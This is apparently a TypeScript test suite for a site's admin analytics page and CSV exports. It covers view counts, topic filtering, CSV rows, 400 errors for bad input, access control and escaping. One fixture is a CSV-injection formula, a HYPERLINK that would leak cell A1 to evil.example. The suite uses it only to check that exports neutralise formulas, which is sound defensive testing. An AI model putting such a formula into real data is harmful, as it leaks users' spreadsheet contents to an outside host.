// The analytics screen and its CSV exports, read the way an editor reads them: the numbers
// appear in the tables, each CSV has the right rows and neutralises formulas, bad input is
// a 400 (never a 500), and the dashboard's readership glance adds up.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { dialects, startTestApp, type TestApp } from '../../test/helpers.js';
import type { Agent } from '../../test/agent.js';
import { createPerson, personWithRole } from '../../test/people.js';
import { parseCsv, publishedItems, settle, today } from './test-support.js';
import { longDay } from './presenters.js';
import { ReadershipGlance } from './views.js';

const BROWSER = 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_0) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15';
const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

/** The text of the table with this id, tags removed and spaces collapsed. */
function tableText(html: string, id: string): string {
  const table = new RegExp(`<table[^>]*id="${id}"[\\s\\S]*?</table>`).exec(html)?.[0];
  assert.ok(table, `the page has a table #${id}`);
  return table.replace(/<[^>]+>/g, ' ').replace(/\s+/g, ' ');
}

for (const { dialect, skip } of dialects()) {
  describe(`the analytics screen and exports (${dialect})`, { skip }, () => {
    let t: TestApp;
    let editor: Agent;
    let items: { id: number; title: string; path: string }[];
    let report: { id: number; title: string; path: string };
    let memberOrgPeopleBefore = 0;

    const view = (path: string, remoteAddress: string) => t.app.inject({ method: 'GET', url: path, remoteAddress, headers: { 'user-agent': BROWSER } });

    before(async () => {
      t = await startTestApp({ dialect });
      editor = await personWithRole(t, 'analytics-screen-editor@example.org', 'editor');
      items = await publishedItems(t, 'news', 'public', 2);
      [report] = await publishedItems(t, 'report', 'members', 1) as [{ id: number; title: string; path: string }];
      // A title written as a spreadsheet formula, to check the CSV neutralises it.
      await t.container.db.kysely.updateTable('items').set({ title: HOSTILE }).where('id', '=', items[1]!.id).execute();
      t.container.pageCache.invalidate();
      const growth = parseCsv((await editor.get('/admin/analytics/registrations.csv?days=7')).body);
      memberOrgPeopleBefore = Number(growth.find((r) => r[0] === today())?.[3]);
      await createPerson(t, 'new-reader@northbridge-royal.example');
      for (let i = 0; i < 3; i++) await view(items[0]!.path, '198.51.100.1');
      await view(items[1]!.path, '198.51.100.2');
      await view(report.path, '198.51.100.3');
      await settle();
      await t.container.analytics.flush();
    });
    after(async () => {
      await t?.close();
    });

    test('the analytics page shows the numbers in its tables', async () => {
      const res = await editor.get('/admin/analytics?days=7');
      assert.equal(res.statusCode, 200);
      const daily = tableText(res.body, 'table-daily');
      assert.match(daily, new RegExp(`${longDay(today())} 5 3 `), "today's row: 5 views from 3 visitors");
      assert.match(res.body, /<svg[^>]*role="img"[^>]*aria-labelledby="chart-daily-title chart-daily-desc"/);
      const top = res.body.slice(res.body.indexOf('id="analytics-top"'), res.body.indexOf('id="analytics-topic"'));
      assert.match(top.replace(/<[^>]+>/g, ' ').replace(/\s+/g, ' '), new RegExp(` 1 ${items[0]!.title.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} .* 3 `));
      const access = res.body.slice(res.body.indexOf('id="analytics-access"'), res.body.indexOf('id="analytics-growth"'));
      assert.ok(access.includes(report.path), 'the members-only report is listed under its access level');
      const growth = tableText(res.body, 'table-growth');
      assert.match(growth, new RegExp(`${longDay(today())} \\d+ \\d+ ${memberOrgPeopleBefore + 1} `), 'the new person at a member organisation is counted');
      const engagement = tableText(res.body, 'table-engagement');
      assert.match(engagement, /Registrations \d+ Email addresses confirmed \d+ Requests to join a member organisation \d+ Member benefits chosen \d+/);
    });

    test('the topic filter lists the most read in that topic', async () => {
      const topic = await t.container.db.kysely
        .selectFrom('item_topics')
        .innerJoin('topics', 'topics.id', 'item_topics.topic_id')
        .select('topics.slug')
        .where('item_topics.item_id', '=', items[0]!.id)
        .executeTakeFirstOrThrow();
      const res = await editor.get(`/admin/analytics?days=30&topic=${topic.slug}`);
      assert.equal(res.statusCode, 200);
      const section = res.body.slice(res.body.indexOf('id="analytics-topic"'), res.body.indexOf('id="analytics-access"'));
      assert.ok(section.includes(`href="${items[0]!.path}"`));
      assert.match(section, new RegExp(`<option value="${topic.slug}" selected`));
      assert.equal((await editor.get('/admin/analytics?days=30&topic=no-such-topic')).statusCode, 404);
      assert.equal((await editor.get('/admin/analytics?days=30&topic=')).statusCode, 200, 'the empty choice shows the page');
    });

    test('views.csv has one row per day and today’s numbers', async () => {
      const res = await editor.get('/admin/analytics/views.csv?days=30');
      assert.equal(res.statusCode, 200);
      assert.match(String(res.headers['content-type']), /^text\/csv/);
      assert.match(String(res.headers['content-disposition']), /^attachment; filename="page-views-30-days\.csv"$/);
      const rows = parseCsv(res.body);
      assert.deepEqual(rows[0], ['day', 'page_views', 'unique_visitors']);
      assert.equal(rows.length, 31);
      assert.deepEqual(rows[30], [today(), '5', '3']);
    });

    test('top.csv lists items by views and neutralises a formula in a title', async () => {
      const res = await editor.get('/admin/analytics/top.csv?days=7');
      assert.equal(res.statusCode, 200);
      assert.match(String(res.headers['content-disposition']), /^attachment; /);
      const rows = parseCsv(res.body);
      assert.deepEqual(rows[0], ['rank', 'title', 'kind', 'access', 'url', 'views']);
      assert.deepEqual(rows[1], ['1', items[0]!.title, 'News', 'Public', t.container.config.publicUrl + items[0]!.path, '3']);
      const hostile = rows.find((r) => r[4]?.endsWith(items[1]!.path));
      assert.equal(hostile?.[1], `'${HOSTILE}`);
      assert.ok(!/(^|,)"?[=+\-@]/m.test(res.body), 'no cell starts with a formula character');
      const members = parseCsv((await editor.get('/admin/analytics/top.csv?days=7&access=members')).body);
      assert.deepEqual(members.slice(1).map((r) => r[4]), [t.container.config.publicUrl + report.path]);
    });

    test('registrations.csv has one row per day with the running totals', async () => {
      const res = await editor.get('/admin/analytics/registrations.csv?days=7');
      assert.equal(res.statusCode, 200);
      const rows = parseCsv(res.body);
      assert.deepEqual(rows[0], ['day', 'registrations', 'confirmed_accounts_total', 'member_organisation_people_total']);
      assert.equal(rows.length, 8);
      const last = rows[7]!;
      assert.equal(last[0], today());
      assert.ok(Number(last[1]) >= 2, 'the people made today registered today');
      assert.equal(Number(last[3]), memberOrgPeopleBefore + 1);
    });

    test('bad input is a 400, never a 500', async () => {
      for (const url of ['/admin/analytics?days=abc', '/admin/analytics?days=14', '/admin/analytics?topic=%3Cscript%3E', '/admin/analytics/views.csv?days=abc', '/admin/analytics/top.csv?access=everyone', '/admin/analytics/registrations.csv?days=-1']) {
        const res = await editor.get(url);
        assert.equal(res.statusCode, 400, url);
        assert.doesNotMatch(res.body, /at .*\.ts:\d+/, 'no stack trace');
      }
    });

    test('visitors are sent to log in and members are refused', async () => {
      const visitor = await t.app.inject({ method: 'GET', url: '/admin/analytics' });
      assert.equal(visitor.statusCode, 303);
      const member = await personWithRole(t, 'analytics-member@example.org', 'member');
      assert.equal((await member.get('/admin/analytics')).statusCode, 403);
      assert.equal((await member.get('/admin/analytics/top.csv')).statusCode, 403);
    });

    test("the readership glance sums this week's views and lists the most read", async () => {
      const glance = await t.container.analytics.weekGlance();
      assert.equal(glance.views, 5);
      assert.equal(glance.visitors, 3);
      assert.deepEqual(glance.top[0], { title: items[0]!.title, path: items[0]!.path, views: 3 });
      const html = await ReadershipGlance({ glance });
      assert.match(html, /<strong>5<\/strong> page views/);
      assert.ok(html.includes('&amp;A1') && !html.includes('"http://evil'), 'titles are escaped');
    });
  });
}
